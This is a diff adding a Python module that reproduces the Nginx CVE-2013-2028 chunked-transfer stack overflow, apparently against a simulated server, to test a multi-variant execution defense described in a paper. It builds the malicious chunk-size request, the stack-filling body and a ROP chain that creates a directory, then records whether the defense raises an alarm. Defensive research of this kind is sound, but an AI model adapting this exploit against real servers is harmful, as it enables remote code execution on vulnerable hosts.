@@ -1,0 +1,111 @@
+"""CVE-2013-2028 reproduction (paper §4.2).
+
+The Nginx 1.3.9/1.4.0 chunked-transfer stack overflow:
+
+1. a request carries ``Transfer-Encoding: chunked`` and a chunk size of
+   ``0xFFFFFFFFFFFFFFF0`` — parsed as unsigned, *stored* signed, i.e. -16;
+2. the discard-body path computes ``min(content_length_n, 4096)`` with a
+   **signed** comparison, so -16 wins;
+3. the value is handed to ``recv`` where the ``size_t`` cast turns it into
+   a huge count: ``recv`` writes every available body byte into the 4 KiB
+   stack buffer — 4 KiB of filler, then the ROP chain lands on the saved
+   return address.
+
+Against vanilla minx the chain runs: ``mkdir("/tmp/minx_upstream")``
+succeeds and the worker crashes afterwards.  Under sMVX the overflow is
+faithfully replicated into the follower (the ``recv`` emulation copies the
+leader's buffer, §3.3), whose return address now holds *leader-space*
+gadget addresses — unmapped in the follower's view — so the follower
+faults, the monitor raises a divergence alarm, and ``mkdir`` never runs.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import Optional
+
+from repro.apps.minx import DISCARD_BUFFER_SIZE, MinxServer
+from repro.attacks.rop import RopChain, build_mkdir_chain
+from repro.errors import MachineFault, MvxDivergence
+
+#: 2**64 - 16: a valid hex chunk size that is -16 as a signed 64-bit int.
+EVIL_CHUNK_SIZE = "fffffffffffffff0"
+
+VICTIM_DIRECTORY = "/tmp/minx_upstream"
+
+
+@dataclass
+class ExploitOutcome:
+    directory_created: bool
+    server_crashed: bool
+    divergence_detected: bool
+    alarm_count: int
+    detail: str = ""
+
+    @property
+    def attack_succeeded(self) -> bool:
+        return self.directory_created
+
+    @property
+    def attack_detected_and_blocked(self) -> bool:
+        return self.divergence_detected and not self.directory_created
+
+
+class Cve20132028Exploit:
+    """Builds and fires the exploit against a running :class:`MinxServer`."""
+
+    def __init__(self, server: MinxServer):
+        self.server = server
+        self.chain: Optional[RopChain] = None
+
+    def build_payloads(self) -> "tuple[bytes, bytes]":
+        """Returns (request_head, overflow_body).
+
+        The head establishes the chunked request and the evil chunk size;
+        the body is what ``recv`` pours into the 4 KiB stack buffer.
+        """
+        self.chain = build_mkdir_chain(self.server.process,
+                                       self.server.loaded)
+        head = (b"POST /index.html HTTP/1.1\r\n"
+                b"Host: victim\r\n"
+                b"Transfer-Encoding: chunked\r\n"
+                b"\r\n" +
+                EVIL_CHUNK_SIZE.encode() + b"\r\n")
+        body = b"A" * DISCARD_BUFFER_SIZE + self.chain.pack()
+        return head, body
+
+    def fire(self) -> ExploitOutcome:
+        """Send the exploit and observe the outcome."""
+        kernel = self.server.kernel
+        head, body = self.build_payloads()
+        sock = kernel.network.connect(self.server.port)
+        # the head arrives first; the body lands while the server is
+        # blocked inside the discard-body recv (client-side pacing)
+        sock.send(head)
+        # paced well past request-head processing (including sMVX variant
+        # creation when the whole event loop is the region) so the body
+        # arrives while the server sits in the discard-body recv
+        sock.send(body, extra_delay_ns=5_000_000)
+
+        crashed = False
+        divergence = False
+        detail = ""
+        try:
+            self.server.pump()
+        except MvxDivergence as alarm:
+            divergence = True
+            detail = str(alarm.report)
+        except MachineFault as fault:
+            crashed = True
+            detail = f"{type(fault).__name__}: {fault}"
+        return ExploitOutcome(
+            directory_created=kernel.vfs.is_dir(VICTIM_DIRECTORY),
+            server_crashed=crashed,
+            divergence_detected=divergence,
+            alarm_count=len(self.server.alarms.alarms),
+            detail=detail,
+        )
+
+
+def run_exploit(server: MinxServer) -> ExploitOutcome:
+    return Cve20132028Exploit(server).fire()
